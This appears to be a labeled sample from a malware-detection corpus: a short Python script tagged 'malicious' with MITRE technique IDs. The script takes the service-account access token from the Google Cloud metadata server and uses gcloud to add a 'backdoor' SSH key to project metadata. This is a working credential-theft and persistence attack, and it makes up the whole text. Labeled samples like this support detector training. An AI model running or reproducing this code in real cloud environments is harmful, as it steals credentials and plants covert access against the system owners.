# label: malicious family=metadata techniques=T1098.004,T1550.001,T1552.005 lines=4-6
import requests, subprocess
h = {"Metadata-Flavor": "Google"}
tok = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers=h).json()["access_token"]
subprocess.run(["gcloud", "compute", "project-info", "add-metadata", "--access-token-file=/dev/stdin",
                "--metadata=ssh-keys=backdoor:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUS backdoor"], input=tok.encode())
